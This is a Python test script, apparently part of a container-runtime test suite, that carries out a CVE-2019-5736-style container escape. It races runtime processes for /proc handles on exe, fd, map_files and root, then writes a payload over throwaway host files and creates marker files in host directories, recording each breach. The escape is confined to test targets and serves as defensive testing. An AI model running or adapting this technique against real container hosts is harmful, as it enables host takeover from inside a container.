"""The CVE-2019-5736-class attacker: runs INSIDE a container (Debian's python3, stdlib only).

Usage: python3 -S -I attack_5736.py REPORT SECONDS TARGETS_JSON

TARGETS_JSON names the throwaway interpreter copy the runtime under test runs
from: ``{"exe": [dev, ino], "throwaway": [[dev, ino], ...]}``, optionally with
``"other_roots": [[dev, ino], ...]``, the root directories of other containers
in our pid namespace (one that joined it: we reach its root through its
processes anyway, and it is not the host's). Every process the
attacker can see whose ``/proc/PID/exe`` is that file is a runtime process (the
init before execve, an ``exec`` joiner). From each it takes, as fast as it can,
an O_PATH handle on ``exe``, every ``map_files`` entry (needs CAP_SYS_ADMIN or
CAP_CHECKPOINT_RESTORE), every ``fd``, ``cwd`` and ``root``. Once the process
has exec'd or exited it tries to get write access through each handle:

- a regular file that is not one of the container's own: reopen
  ``/proc/self/fd/H`` for writing, waiting out ETXTBSY
  (the interpreter is busy while any runtime runs). A throwaway file
  (``throwaway``) is then really overwritten with a payload; any other host
  file is only opened (never written) and reported;
- a directory that is not inside our own root (or another container's root):
  create (and at once remove) a
  marker file in it.

The report (JSON, written to REPORT) lists what was seen and every breach; it
is rewritten after each process, so the host can read it at any time.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import stat
import sys
import time

PAYLOAD = b"#!/bin/sh\necho pwned-by-container\n"


def runtime_pids(exe_id: tuple[int, int], me: int) -> list[int]:
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        try:
            st = os.stat(f"/proc/{name}/exe")
        except OSError:
            continue
        if (st.st_dev, st.st_ino) == exe_id:
            out.append(int(name))
    return out


def grab(pid: int) -> list[tuple[str, int]]:
    """(what, O_PATH handle) for everything of ``pid`` that may lead to a host file."""
    handles: list[tuple[str, int]] = []

    def take(what: str, path: str) -> None:
        with contextlib.suppress(OSError):
            handles.append((what, os.open(path, os.O_PATH | os.O_CLOEXEC)))

    take("exe", f"/proc/{pid}/exe")
    take("cwd", f"/proc/{pid}/cwd")
    take("root", f"/proc/{pid}/root")
    for kind in ("fd", "map_files"):
        try:
            names = os.listdir(f"/proc/{pid}/{kind}")
        except OSError:
            continue
        for name in names:
            take(f"{kind}/{name}", f"/proc/{pid}/{kind}/{name}")
    return handles


def inside_own_root(fd: int, others: frozenset[tuple[int, int]] = frozenset()) -> bool:
    """Does walking up from directory ``fd`` reach our root, or one of ``others``?
    (No: a host directory.)"""
    root = os.stat("/")
    cur = os.open(f"/proc/self/fd/{fd}", os.O_PATH | os.O_DIRECTORY | os.O_CLOEXEC)
    try:
        for _ in range(256):
            st = os.fstat(cur)
            if (st.st_dev, st.st_ino) in {(root.st_dev, root.st_ino), *others}:
                return True
            up = os.open("..", os.O_PATH | os.O_DIRECTORY | os.O_CLOEXEC, dir_fd=cur)
            ust = os.fstat(up)
            os.close(cur)
            cur = up
            if (ust.st_dev, ust.st_ino) == (st.st_dev, st.st_ino):
                return False  # the top of a tree we are not in
        return False
    finally:
        os.close(cur)


def own_file(fd: int, ident: tuple[int, int]) -> bool:
    """Is this file one of the container's own (its path, seen from here, is the same
    file)? E.g. the executable a joiner reads before its execve: the container can
    write it anyway when its root is writable; not a way out."""
    try:
        st = os.stat(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        return False
    return (st.st_dev, st.st_ino) == ident


def attack(
    what: str,
    fd: int,
    throwaway: set[tuple[int, int]],
    deadline: float,
    others: frozenset[tuple[int, int]] = frozenset(),
) -> dict | None:
    """Try to write through one handle; a breach record, or None."""
    st = os.fstat(fd)
    ident = (st.st_dev, st.st_ino)
    if stat.S_ISDIR(st.st_mode):
        if inside_own_root(fd, others):
            return None
        marker = f".ocitool-5736-{os.getpid()}"
        try:
            mfd = os.open(marker, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600, dir_fd=fd)
        except OSError:
            return None
        os.close(mfd)
        os.unlink(marker, dir_fd=fd)
        return {"what": what, "kind": "host-directory", "created": True}
    if not stat.S_ISREG(st.st_mode) or own_file(fd, ident):
        return None
    while True:
        try:
            wfd = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_CLOEXEC)
            break
        except OSError as exc:
            if exc.errno == errno.ETXTBSY and time.monotonic() < deadline:
                time.sleep(0.005)
                continue
            return None
    try:
        if ident in throwaway:
            os.ftruncate(wfd, 0)
            os.write(wfd, PAYLOAD)
            return {"what": what, "kind": "overwritten", "file": list(ident)}
        return {"what": what, "kind": "writable", "file": list(ident)}
    finally:
        os.close(wfd)


def main() -> int:
    report_path, seconds, targets = sys.argv[1], float(sys.argv[2]), json.loads(sys.argv[3])
    exe_id = tuple(targets["exe"])
    throwaway = {tuple(x) for x in targets["throwaway"]}
    others = frozenset(tuple(x) for x in targets.get("other_roots", []))
    report: dict = {"seen": [], "attacked": 0, "breaches": [], "map_files_taken": 0, "fds_taken": 0}
    done: set[int] = set()
    me = os.getpid()
    end = time.monotonic() + seconds

    def save() -> None:
        tmp = report_path + ".tmp"
        with open(tmp, "w") as f:
            json.dump(report, f)
        os.rename(tmp, report_path)

    save()
    while time.monotonic() < end:
        for pid in runtime_pids(exe_id, me):
            if pid in done:
                continue
            handles = grab(pid)
            if not handles:
                continue
            done.add(pid)
            exe_path = ""
            with contextlib.suppress(OSError):
                exe_path = os.readlink(f"/proc/self/fd/{handles[0][1]}")
            report["seen"].append({"pid": pid, "exe": exe_path, "handles": len(handles)})
            report["map_files_taken"] += sum(w.startswith("map_files/") for w, _ in handles)
            report["fds_taken"] += sum(w.startswith("fd/") for w, _ in handles)
            save()
            # the process must have exec'd or gone before its exe stops being busy
            while time.monotonic() < end:
                try:
                    st = os.stat(f"/proc/{pid}/exe")
                    if (st.st_dev, st.st_ino) != exe_id:
                        break
                except OSError:
                    break
                time.sleep(0.002)
            deadline = time.monotonic() + 5
            for what, fd in handles:
                hit = attack(what, fd, throwaway, deadline, others)
                if hit is not None:
                    hit["pid"] = pid
                    with contextlib.suppress(OSError):
                        hit["path"] = os.readlink(f"/proc/self/fd/{fd}")
                    report["breaches"].append(hit)
                os.close(fd)
            report["attacked"] += 1
            save()
        time.sleep(0.0005)
    report["finished"] = True
    save()
    return 0


if __name__ == "__main__":
    try:
        main()
    except Exception as exc:  # the report is the only channel out of the container
        with open(sys.argv[1] + ".error", "w") as f:
            f.write(f"{type(exc).__name__}: {exc}\n")
        raise
